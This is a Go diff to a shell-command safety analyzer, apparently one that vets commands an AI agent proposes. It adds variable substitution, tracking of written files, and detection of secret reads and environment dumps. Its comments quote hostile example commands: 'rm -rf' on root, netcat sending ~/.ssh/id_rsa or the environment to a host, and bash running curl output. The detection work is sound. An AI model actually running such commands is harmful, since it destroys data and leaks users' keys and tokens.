@@ -101,10 +101,11 @@ func AnalyzeWith(command string, opt Options) Verdict {
 }
 
 func newAnalyzer(opt Options) *analyzer {
-	a := &analyzer{pr: newPathRules(opt)}
+	a := &analyzer{pr: newPathRules(opt), script: opt.Script}
 	if opt.Cwd != "" {
 		a.cwd = a.pr.norm(opt.Cwd, "")
 	}
+	a.root = a.cwd
 	return a
 }
 
@@ -119,6 +120,25 @@ type analyzer struct {
 	// by each literal cd; "" when unknown. It lets `cd / && rm -rf *` be
 	// seen for what it is.
 	cwd string
+	// root is the workspace: the directory the command starts in
+	// (normalised Options.Cwd), where writes are as harmless as the
+	// sandbox allows; "" when unknown.
+	root string
+	// vars are the literal values assigned to shell variables so far
+	// (x=/etc; rm -rf $x): a command using them is judged again with
+	// them put in.
+	vars vars
+	// script is Options.Script; written holds the files earlier commands
+	// of the command line wrote with known content (cat > x.sh <<EOF),
+	// by fileKey.
+	script  func(path string) ([]byte, bool, error)
+	written map[string]writtenFile
+	// via, while a file is analysed, says which, for the reasons of its
+	// findings: "in x.sh, which the agent wrote".
+	via string
+	// inTail is set while the arguments of an unknown program are
+	// judged as a command of their own (tail.go).
+	inTail bool
 	// ifsSet is set once the script assigns IFS: from then on $IFS is not
 	// known to split words at blanks.
 	ifsSet bool
@@ -159,6 +179,9 @@ type scope struct {
 	// outer, when set, is the span of the string the code was taken from;
 	// offsets inside re-parsed code mean nothing to the caller.
 	outer *[2]int
+	// quiet keeps the code's programs out of Verdict.Unknown: what runs
+	// them is there already (a script, an unknown wrapper).
+	quiet bool
 }
 
 // at maps a span in the code being analysed to a span in the command.
@@ -186,6 +209,9 @@ func (a *analyzer) add(r *rule, detail string, span [2]int) {
 	reason := r.reason
 	if detail != "" {
 		reason += ": " + detail
+	}
+	if a.via != "" {
+		reason += " (" + a.via + ")"
 	}
 	a.v.Findings = append(a.v.Findings, Finding{ID: r.id, Level: r.level, Reason: reason, Span: span})
 }
@@ -226,7 +252,7 @@ func (a *analyzer) visitor(sc scope) func(syntax.Node) bool {
 		case *syntax.CallExpr:
 			a.call(n, sc)
 		case *syntax.DeclClause:
-			a.assigns(n.Args, sc)
+			a.assigns(n.Args, true, sc)
 		case *syntax.FuncDecl:
 			a.funcDecl(n, sc)
 		case *syntax.BinaryCmd:
@@ -278,12 +304,28 @@ func (a *analyzer) stmt(st *syntax.Stmt, sc scope) {
 			}
 			text, known := docValue(rd)
 			kind := "a here-document"
+			doc := rd.Hdoc
 			if rd.Op == syntax.WordHdoc {
-				kind = "a here-string"
+				kind, doc = "a here-string", rd.Word
 			}
-			a.feed(&sink, &feed{kind: kind, text: text, known: known, span: sc.span(rd)}, sc)
+			f := feed{kind: kind, text: text, known: known, span: sc.span(rd)}
+			if !known {
+				// nc host 9 <<< "$(env)"
+				f.secret = substSecret(doc, &a.pr, a.cwd)
+			}
+			a.feed(&sink, &f, sc)
 			continue
 		case syntax.RdrIn:
+			v, known := "", false
+			if rd.Word != nil {
+				v, known = wordValue(rd.Word)
+			}
+			// xxd < ~/.ssh/id_rsa, $(< ~/.herm/.env)
+			if known {
+				if s, ok := a.pr.secretReadPath(v, a.cwd); ok {
+					a.add(ruleByID("secret-read"), "the input is "+s, sc.span(rd))
+				}
+			}
 			sink, ok := a.cmdOf(st)
 			if !ok {
 				continue
@@ -292,10 +334,12 @@ func (a *analyzer) stmt(st *syntax.Stmt, sc scope) {
 			if ps := procSubst(rd.Word); ps != nil {
 				f := a.feedFrom(ps.Stmts, "a process substitution", sc.span(rd))
 				a.feed(&sink, &f, sc)
-			} else if v, ok := wordValue(rd.Word); ok {
-				// nc host 9 < ~/.ssh/id_rsa
-				if s, ok := a.pr.secretPath(v, a.cwd); ok {
-					a.feed(&sink, &feed{kind: "a redirected file", fileInput: true, secret: s, span: sc.span(rd)}, sc)
+			} else if known {
+				// nc host 9 < ~/.ssh/id_rsa; sqlite3 ~/.herm/state.db < x.sql
+				f := feed{kind: "a redirected file " + v, fileInput: true, span: sc.span(rd)}
+				f.secret, _ = a.pr.secretPath(v, a.cwd)
+				if f.secret != "" || sink.name == "sqlite3" || sink.name == "sqlite" {
+					a.feed(&sink, &f, sc)
 				}
 			}
 			continue
@@ -312,19 +356,34 @@ func (a *analyzer) stmt(st *syntax.Stmt, sc scope) {
 		}
 		if isWriteRedirect(rd.Op) && rd.N == nil {
 			a.noteDownload(st, rd)
+			a.noteWritten(st, rd)
 		}
 		for _, t := range a.words([]*syntax.Word{rd.Word}) {
-			rc := redirCtx{cwd: a.cwd, pr: &a.pr}
-			for i := range rules {
-				r := &rules[i]
-				if r.redirect == nil {
-					continue
-				}
-				if d := r.redirect(rd.Op, t, &rc); d != "" {
-					a.add(r, d, sc.span(rd))
-				}
+			r, resolved := t.resolved(a.vars)
+			a.redirect(rd.Op, t, sc.span(rd), sc.quiet || resolved)
+			if resolved {
+				a.redirect(rd.Op, r, sc.span(rd), sc.quiet)
 			}
 		}
+	}
+}
+
+// redirect runs the redirect rules on the target t of a redirection,
+// and names a write outside the workspace in Verdict.Unknown unless
+// quiet.
+func (a *analyzer) redirect(op syntax.RedirOperator, t arg, span [2]int, quiet bool) {
+	rc := redirCtx{cwd: a.cwd, pr: &a.pr}
+	for i := range rules {
+		r := &rules[i]
+		if r.redirect == nil {
+			continue
+		}
+		if d := r.redirect(op, t, &rc); d != "" {
+			a.add(r, d, span)
+		}
+	}
+	if !quiet && isWriteRedirect(op) && !a.inWorkspace(t, a.cwd) {
+		a.noteUnknown("> " + shortWord(t.val))
 	}
 }
 
@@ -341,9 +400,17 @@ func (a *analyzer) noteDownload(st *syntax.Stmt, rd *syntax.Redirect) {
 }
 
 func (a *analyzer) call(ce *syntax.CallExpr, sc scope) {
-	a.assigns(ce.Assigns, sc)
+	a.assigns(ce.Assigns, len(ce.Args) == 0, sc)
 	if len(ce.Args) == 0 {
 		return
+	}
+	// With the variables assigned earlier in the command put in, the
+	// words may say more (d=/etc; rm -rf $d): that command is judged too,
+	// and it, not the one with holes, names what is unknown.
+	resolved, ok := a.resolvedCall(ce)
+	first := sc
+	if ok {
+		first.quiet = true
 	}
 	c := a.cached(ce)
 	if c == nil {
@@ -361,18 +428,59 @@ func (a *analyzer) call(ce *syntax.CallExpr, sc scope) {
 	if len(ce.Assigns) > 0 {
 		c.all = append(a.assignWords(ce.Assigns), c.all...)
 	}
-	a.check(c, sc.span(ce), sc)
+	a.check(c, sc.span(ce), first)
+	if ok {
+		a.check(&resolved, sc.span(ce), sc)
+	}
 }
 
-// assigns notes assignments to IFS and checks the assigned values (a
-// metadata address in URL=… is as telling as in an argument).
-func (a *analyzer) assigns(as []*syntax.Assign, sc scope) {
+// resolvedCall returns the command ce runs with the known variables put
+// in, and whether they changed anything.
+func (a *analyzer) resolvedCall(ce *syntax.CallExpr) (cmd, bool) {
+	if len(a.vars) == 0 {
+		return cmd{}, false
+	}
+	changed := false
+	ws := a.words(ce.Args)
+	for i := range ws {
+		var ch bool
+		ws[i], ch = ws[i].resolved(a.vars)
+		changed = changed || ch
+	}
+	if !changed {
+		return cmd{}, false
+	}
+	return peel(ws, a.cwd, &a.pr), true
+}
+
+// assigns notes assignments to IFS and of literal values (pure, for
+// the shell itself rather than one command), checks the variables set
+// (LD_PRELOAD=…) and the assigned values (a metadata address in URL=…
+// is as telling as in an argument).
+func (a *analyzer) assigns(as []*syntax.Assign, pure bool, sc scope) {
 	if len(as) == 0 {
 		return
 	}
 	for _, as := range as {
-		if as.Name != nil && as.Name.Value == "IFS" {
+		if as.Name == nil || as.Naked {
+			continue
+		}
+		name := as.Name.Value
+		if name == "IFS" {
 			a.ifsSet = true
+		}
+		value := arg{known: true}
+		if as.Value != nil {
+			value = wordArg(as.Value)
+			if r, ok := value.resolved(a.vars); ok {
+				value = r
+			}
+		}
+		if pure {
+			a.noteVar(name, value, as.Append || as.Index != nil || as.Array != nil)
+		}
+		if as.Array == nil {
+			a.assign(name, value, sc.span(as), sc)
 		}
 	}
 	ws := a.assignWords(as)
@@ -389,6 +497,55 @@ func (a *analyzer) assigns(as []*syntax.Assign, sc scope) {
 			a.add(r, d, sc.at(at.span))
 		}
 	}
+}
+
+// maxVars bounds the variables remembered.
+const maxVars = 32
+
+// noteVar remembers a literal value assigned to a variable, or forgets
+// the variable when what it holds is no longer known.
+func (a *analyzer) noteVar(name string, value arg, partial bool) {
+	if partial || !value.known {
+		delete(a.vars, name)
+		return
+	}
+	if a.vars == nil {
+		a.vars = vars{}
+	}
+	if _, ok := a.vars[name]; ok || len(a.vars) < maxVars {
+		a.vars[name] = value.val
+	}
+}
+
+// assign runs the assign rules on a variable set to value, and analyses
+// the command the variable makes programs run (PAGER='sh -c …').
+func (a *analyzer) assign(name string, value arg, span [2]int, sc scope) {
+	for i := range rules {
+		r := &rules[i]
+		if r.assign == nil {
+			continue
+		}
+		if d, _ := r.assign(name, value); d != "" {
+			a.add(r, d, span)
+		}
+	}
+	if h, ok := envHookOf(name, value); ok && h.code.known && h.code.val != "" {
+		a.nested(h.code.val, span, sc)
+	}
+}
+
+// assignWord is assign for a NAME=value word given to env or sudo.
+func (a *analyzer) assignWord(w arg, span [2]int, sc scope) {
+	name, val, ok := strings.Cut(w.prefix(), "=")
+	if !ok {
+		return
+	}
+	v := w
+	v.val = val
+	if !w.known {
+		v.val, v.lit = w.val[len(name)+1:], w.lit-len(name)-1
+	}
+	a.assign(name, v, spanOf(&w, span, sc), sc)
 }
 
 func (a *analyzer) assignWords(as []*syntax.Assign) []arg {
@@ -431,8 +588,16 @@ func (a *analyzer) check(c *cmd, span [2]int, sc scope) {
 			}
 		}
 	}
+	for _, w := range c.assigns {
+		a.assignWord(w, span, sc)
+	}
 	if code, _, ok := embeddedCode(c); ok && code.known {
 		a.nested(code.val, sc.at(code.span), sc)
+	}
+	for _, o := range c.codeOptions() {
+		if o.shell && o.code.known && o.code.val != "" {
+			a.nested(o.code.val, spanOf(&o.code, span, sc), sc)
+		}
 	}
 	// bash <(curl …), source <(…): a process substitution run as a script.
 	if ps, ok := scriptSubst(c); ok {
@@ -442,6 +607,28 @@ func (a *analyzer) check(c *cmd, span [2]int, sc scope) {
 	}
 	for _, sub := range findExecs(c) {
 		a.check(&sub, span, sc)
+	}
+	ran := a.runFiles(c, span, sc)
+	prog, onlyWrites := a.programUnknownWrites(c)
+	if !sc.quiet {
+		u := prog
+		if !c.dynamic {
+			for _, w := range c.wrappers {
+				if !transparentWrapper(w) {
+					u = w
+					break
+				}
+			}
+		} else {
+			u = "a command decided at run time"
+		}
+		if ran != "" && u != "" {
+			u = ran
+		}
+		a.noteUnknown(u)
+	}
+	if prog != "" && !onlyWrites {
+		a.tail(c, span, sc)
 	}
 	if c.name == "cd" || c.name == "pushd" {
 		a.cwd = cdTarget(c.args, a.cwd, &a.pr)
@@ -497,6 +684,8 @@ func (a *analyzer) pipe(b *syntax.BinaryCmd, sc scope) {
 			for i := range k {
 				if facts[i].ok {
 					facts[i].secret = secretIn(&facts[i].c)
+				} else if declDump(stages[i]) {
+					facts[i].secret = "the environment (API keys and tokens)"
 				}
 			}
 			break
@@ -553,7 +742,7 @@ func (a *analyzer) nested(code string, span [2]int, sc scope) {
 	// A cd inside the nested code does not move the outer shell (bash -c
 	// runs in a child), so the directory is restored afterwards.
 	cwd := a.cwd
-	a.source(code, scope{depth: sc.depth + 1, outer: &span})
+	a.source(code, scope{depth: sc.depth + 1, outer: &span, quiet: sc.quiet})
 	a.cwd = cwd
 }
 
